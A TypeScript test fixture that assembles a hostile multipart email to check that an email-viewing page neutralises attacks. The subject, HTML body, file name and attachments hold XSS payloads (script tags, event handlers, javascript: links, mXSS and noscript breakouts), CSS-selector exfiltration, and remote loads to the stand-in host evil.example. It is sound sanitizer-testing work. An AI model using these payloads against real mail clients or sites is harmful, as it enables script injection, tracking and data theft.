// A message built to attack the clerk's browser: script, event handlers, javascript: links, CSS exfiltration,
// remote images and frames, meta refresh, an SVG with script, markup in the subject and in a file name.
// Every payload that could run marks the page (data-pwned) or calls out to evil.example: the test asserts neither.
const PNG_1PX = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';

export const HOSTILE_SUBJECT = '<img src=x onerror="document.body.dataset.pwned=1"><script>alert("subject")</script>';
export const HOSTILE_FILENAME = '<img src=x onerror=alert(1)>"photo.svg';

const HTML = `<html><head>
<meta http-equiv="refresh" content="0;url=http://evil.example/refresh">
<base href="http://evil.example/">
<link rel="stylesheet" href="http://evil.example/sheet.css">
<style>@import url(http://evil.example/import.css); body{background:url(http://evil.example/bg.png)}
input[value^="a"]{background:url(http://evil.example/exfil-a)}</style>
<script>document.body.dataset.pwned=1;fetch('http://evil.example/script');alert('script')</script>
</head><body onload="document.body.dataset.pwned=1">
<p id="greeting">Здравствуйте! Показания во вложении.</p>
<img src="x" onerror="document.body.dataset.pwned=1;alert('onerror')">
<img src="http://evil.example/track.png" alt="tracker">
<img src="//evil.example/protocol-relative.png">
<img src="cid:logo@hostile">
<a id="jslink" href="javascript:alert('link')">нажмите</a>
<a href="http://evil.example/phish">ссылка</a>
<div style="background-image:url('http://evil.example/inline-style.png');width:expression(alert(1))">стиль</div>
<svg onload="alert('svg')"><script>alert('svg script')</script><image href="http://evil.example/svg.png"/></svg>
<iframe src="http://evil.example/frame"></iframe>
<object data="http://evil.example/object"></object>
<embed src="http://evil.example/embed">
<form action="http://evil.example/form"><input name="a" value="abc"><button>send</button></form>
<video src="http://evil.example/video.mp4" autoplay></video>
<math><mtext><table><mglyph><style><img src=x onerror="alert('mxss')"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=alert('noscript')>"></p></noscript>
</body></html>`;

const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert('svg attachment')"><script>alert('svg attachment script')</script><image href="http://evil.example/svg-att.png"/></svg>`;

export function hostileMail(messageId: string): Buffer {
  const b = 'BOUNDARY-hostile';
  const alt = 'ALT-hostile';
  return Buffer.from([
    'From: Злоумышленник <attacker@example.org>', 'To: info@khab.dvec.ru',
    `Subject: =?utf-8?B?${Buffer.from(HOSTILE_SUBJECT).toString('base64')}?=`,
    'Date: Sun, 22 Nov 2026 10:00:00 +1000', `Message-ID: <${messageId}>`, 'MIME-Version: 1.0',
    `Content-Type: multipart/mixed; boundary="${b}"`, '',
    `--${b}`, `Content-Type: multipart/related; boundary="${alt}"`, '',
    `--${alt}`, 'Content-Type: text/html; charset=utf-8', 'Content-Transfer-Encoding: base64', '',
    Buffer.from(HTML).toString('base64').replace(/.{76}/g, '$&\r\n'), '',
    `--${alt}`, 'Content-Type: image/png', 'Content-ID: <logo@hostile>', 'Content-Disposition: inline; filename="logo.png"',
    'Content-Transfer-Encoding: base64', '', PNG_1PX, '',
    `--${alt}--`, '',
    `--${b}`, `Content-Type: image/svg+xml; name="=?utf-8?B?${Buffer.from(HOSTILE_FILENAME).toString('base64')}?="`,
    `Content-Disposition: attachment; filename="=?utf-8?B?${Buffer.from(HOSTILE_FILENAME).toString('base64')}?="`,
    'Content-Transfer-Encoding: base64', '', Buffer.from(SVG).toString('base64'), '',
    `--${b}`, 'Content-Type: text/html; name="page.html"', 'Content-Disposition: attachment; filename="page.html"', '',
    '<script>alert("html attachment")</script>', '',
    `--${b}--`, '',
  ].join('\r\n'));
}
